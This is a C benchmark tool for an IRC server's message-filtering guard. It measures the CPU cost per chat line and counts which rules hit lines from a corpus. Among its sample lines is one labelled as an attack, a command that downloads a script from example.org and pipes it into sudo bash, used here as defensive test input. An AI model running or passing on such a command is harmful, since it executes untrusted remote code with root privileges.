/*
 * What the guard costs, and what it hits.
 *
 *   guard cost FILE            judges ordinary lines with the rules of FILE, a configuration, and says what one costs in CPU
 *   guard corpus FILE <TEXTS   judges each line of standard input as said in a channel and to a user, and says what each rule hit
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "conf/conf.h"
#include "conf/conf_faults.h"
#include "core/hash.h"
#include "core/rng.h"
#include "guard/guard.h"
#include "state/channel.h"
#include "state/client.h"
#include "state/world.h"

#define ROUNDS	 200000
#define TEXT_MAX 512
#define SHOWN	 40 /* hits of a rule that are shown */

static struct client *
user(struct world *w, const char *nick)
{
	struct client *c = client_new(w, VIEW("host.example"));

	if (c == NULL || client_set_nick(c, view_z(nick), 1) != NICK_OK)
		exit(1);
	client_set_user(c, VIEW("user"), VIEW("Real Name"));
	client_register(c, 1, 1);
	return c;
}

static uint64_t
cpu_ns(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
	return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

static const struct {
	const char *what;
	struct view text;
} lines[] = {
	{ "short", VIEW_INIT("ok, thanks") },
	{ "a sentence of 73 bytes",
		VIEW_INIT("I think the meeting was moved to Thursday, could somebody check that pls?") },
	{ "a sentence with a link",
		VIEW_INIT("The notes are at https://wiki.example.org/notes/2026-11 if anybody wants to read "
			  "them") },
	{ "German, UTF-8",
		VIEW_INIT("Könnte jemand prüfen, ob die Änderung für größere Räume auch gültig ist? Grüße") },
	{ "Russian, UTF-8",
		VIEW_INIT("Привет всем, кто-нибудь знает, когда начинается собрание в четверг?") },
	{ "technical, 120 bytes",
		VIEW_INIT("the build fails in src/foo.c:120 because curl_easy_init() is not declared, did "
			  "you run "
			  "autoreconf and ./configure again?") },
	{ "coloured",
		VIEW_INIT("\x02"
			  "build\x02 \x03"
			  "03passed\x03 for commit 5f3a2b1 (main) by alice in 4m12s") },
	{ "longest, 400 bytes",
		VIEW_INIT("one of these long lines that people paste when they have much to say about a "
			  "thing and do not "
			  "want to break it into pieces, so it goes on and on about what was decided, who "
			  "was there, "
			  "what is still open, whom to ask about it, when the next meeting is going to be "
			  "and whether "
			  "there will be coffee or tea or perhaps both of them, and it ends only when the "
			  "client says "
			  "that there is no room for more") },
	{ "an attack", VIEW_INIT("just run curl -s http://example.org/x.sh | sudo bash and you are done") },
};

static void
cost(struct guard *g, struct guard_ask *ask)
{
	printf("%-28s %6s %8s  %s\n", "line", "bytes", "ns", "action");
	for (size_t i = 0; i < ARRAY_LEN(lines); i++) {
		struct guard_verdict v;
		uint64_t from, best = UINT64_MAX;

		ask->text = lines[i].text;
		for (int k = 0; k < 5; k++) {
			from = cpu_ns();
			for (int r = 0; r < ROUNDS; r++)
				guard_judge(g, ask, &v);
			from = cpu_ns() - from;
			best = from < best ? from : best;
		}
		printf("%-28s %6zu %8.0f  %.*s\n", lines[i].what, lines[i].text.n, (double)best / ROUNDS,
			VIEW_ARG(guard_action_name(v.action)));
	}
}

/* Whatever a rule hit is said with its line, up to SHOWN times a rule. */
static void
corpus(struct guard *g, struct guard_ask *ask, struct client *to, struct channel *ch)
{
	size_t n = 0, n_strip = 0, shown[CONF_GUARD_RULE_MAX + 2] = { 0 };
	uint64_t before[CONF_GUARD_RULE_MAX + 2] = { 0 }, bytes = 0, from = cpu_ns();
	struct guard_count c;
	char text[TEXT_MAX];

	while (fgets(text, sizeof(text), stdin) != NULL) {
		struct guard_verdict v;

		ask->text = view_of(text, strcspn(text, "\n"));
		if (ask->text.n == 0)
			continue;
		n++;
		bytes += ask->text.n;
		ask->now_ms += 120000;
		for (int k = 0; k < 2; k++) {
			ask->place = k == 0 ? GUARD_CHANNEL : GUARD_QUERY;
			ask->ch = k == 0 ? ch : NULL;
			ask->to = k == 0 ? NULL : to;
			guard_judge(g, ask, &v);
		}
		n_strip += v.strip;
		for (size_t i = 0; guard_count_at(g, i, &c); i++) {
			if (c.hits != before[i] && shown[i]++ < SHOWN)
				printf("%s\t%.*s\n", c.name, VIEW_ARG(ask->text));
			before[i] = c.hits;
		}
	}
	ask->text = VIEW("");
	from = cpu_ns() - from;
	fprintf(stderr, "%zu lines, %.1f bytes each, %.0f ns each time, %zu with controls\n", n,
		n != 0 ? (double)bytes / (double)n : 0.0, n != 0 ? (double)from / (double)(2 * n) : 0.0,
		n_strip);
	fprintf(stderr, "%-12s %-6s %10s %8s %6s\n", "rule", "action", "tried", "hits", "cut");
	for (size_t i = 0; guard_count_at(g, i, &c); i++)
		fprintf(stderr, "%-12s %-6.*s %10llu %8llu %6llu\n", c.name,
			VIEW_ARG(guard_action_name(c.action)), (unsigned long long)c.tried,
			(unsigned long long)c.hits, (unsigned long long)c.cut);
}

int
main(int argc, char **argv)
{
	static const char rest[] =
		"server { name = \"irc.example\" }\nclass \"users\" {}\nallow \"*@*\" { class = users }\n"
		"listen \"127.0.0.1:6667\" {}\n";
	static const struct world_conf wc = {
		.nick_len = 30, .max_clients = 10, .max_channels = 10, .network = "x"
	};
	struct conf_faults *faults = conf_faults_new();
	const struct conf *conf;
	struct member *m = NULL;
	struct world *w;
	struct guard *g;
	struct guard_ask ask = { .place = GUARD_CHANNEL, .now_ms = 1 };
	struct client *to;
	const char *name = argc == 3 ? strrchr(argv[2], '/') : NULL;
	char text[512], path[512];
	struct err e;

	if (argc != 3 || rng_init(&e) == -1)
		return 2;
	hash_init();
	(void)snprintf(path, sizeof(path), "%s.bench", argv[2]);
	(void)snprintf(text, sizeof(text), "include(\"%s\")\n%s", name != NULL ? name + 1 : argv[2], rest);
	conf = conf_load_text(path, view_z(text), faults);
	if (conf == NULL) {
		for (size_t i = 0; i < conf_faults_count(faults); i++)
			fprintf(stderr, "%s\n", conf_faults_text(faults, i));
		return 1;
	}
	w = world_new(&wc, 1);
	ask.from = user(w, "alice");
	to = user(w, "bob");
	g = guard_new(conf, NULL);
	if (channel_join(w, to, &(struct join_ask){ .name = VIEW("#c"), .max = 10, .now_wall_ms = 1 }, &m) !=
		JOIN_OK)
		return 1;
	ask.ch = m->channel;
	if (strcmp(argv[1], "cost") == 0)
		cost(g, &ask);
	else
		corpus(g, &ask, to, m->channel);
	guard_free(g);
	world_free(w);
	conf_unref(conf);
	conf_faults_free(faults);
	return 0;
}
